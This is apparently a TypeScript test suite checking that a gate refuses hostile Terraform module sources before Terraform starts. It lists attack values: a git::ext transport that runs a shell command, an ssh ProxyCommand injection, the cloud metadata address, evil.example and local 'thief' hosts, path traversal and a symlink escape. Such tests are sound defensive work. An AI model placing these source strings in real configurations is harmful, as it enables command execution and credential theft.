/** Modules from places that run programs, reach other hosts, or hold what the repository must not see. */
import { readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { run } from '../../support/command.ts';
import { cleanEnvironment } from '../../support/environment.ts';
import { bareRepository } from '../../support/repository.ts';
import { requires } from '../../support/requirements.ts';
import { temporaryDirectory } from '../../support/temporary-directory.ts';
import { nothingLeft } from '../../task-image/stage.ts';
import { type Attack, type Battlefield, battlefield, type Prey, refusedByTheGate } from './attack.ts';

const module = (source: string) => `module "m" {\n  source = ${JSON.stringify(source)}\n}\n`;
const from = (name: string, source: string | ((prey: Prey) => string), row?: string): Attack => ({
  name,
  ...(row && { row }),
  files: prey => ({ 'main.tf': module(typeof source === 'string' ? source : source(prey)) }),
});

const attacks: readonly Attack[] = [
  from('transport-that-runs-a-command', ({ markers }) => `git::ext::sh -c touch% ${markers}/ext`, 'RCE-11'),
  from('git-of-this-machine', ({ dataDir }) => `git::file://${dataDir}`, 'RCE-12'),
  from('directory-of-this-machine', ({ dataDir }) => `${dataDir}/state`, 'RCE-12'),
  from('file-url', ({ dataDir }) => `file://${dataDir}/state`),
  from('ssh-option', ({ markers }) => `git::ssh://-oProxyCommand=touch%20${markers}%2Fssh/x`, 'RCE-15'),
  from('metadata-service', 'http://169.254.169.254/latest/meta-data', 'RCE-16'),
  from('archive-of-a-local-port', ({ thiefPort }) => `http://127.0.0.1:${thiefPort}/x.zip`, 'RCE-16'),
  from('registry-of-a-local-port', ({ thiefPort }) => `127.0.0.1:${thiefPort}/a/b/c`, 'RCE-16'),
  from('git-of-another-host', 'git::https://evil.example/m.git?ref=v1.0.0'),
  from('git-by-scp', 'git@evil.example:m.git'),
  from('bucket', 's3::https://s3.amazonaws.com/evil/m.zip'),
  from('mercurial', 'hg::http://127.0.0.1:1/m'),
  from('out-of-the-repository', '../../../other'),
  from('out-and-back', '../../../infra-live/modules/m'),
  from('nowhere', '../../modules/none'),
  {
    name: 'link-out-of-the-repository',
    files: ({ dataDir }) => ({ 'main.tf': module('../link'), '/prod/link': { link: `${dataDir}/state` } }),
  },
  {
    name: 'two-steps',
    files: {
      'main.tf': module('../../modules/a'),
      '/modules/a/main.tf': module('git::https://evil.example/m.git?ref=v1.0.0'),
    },
  },
];

describe.skipIf(requires('sshd', 'terraform'))('a module', { timeout: 60_000 }, () => {
  let field: Battlefield;
  beforeAll(async () => {
    field = await battlefield(attacks);
  });
  afterAll(() => field?.stop());

  test('from git on this machine is what plain Terraform takes', async () => {
    const other = bareRepository(join(temporaryDirectory('other'), 'm.git'), { 'main.tf': '', 'secret.txt': 'x' });
    const stack = temporaryDirectory('stack');
    writeFileSync(join(stack, 'main.tf'), module(`git::file://${other.dir}`));
    await run('terraform', ['init', '-input=false'], { cwd: stack, env: cleanEnvironment() });
    expect(readdirSync(join(stack, '.terraform', 'modules', 'm'))).toContain('secret.txt');
  });

  test.each(attacks)('from $name is refused before Terraform starts', async attack => {
    await refusedByTheGate(field, attack, 'module-source');
    expect(field.thief.visits()).toBe(0);
  });

  test('leaves nothing', () => nothingLeft(field.server));
});
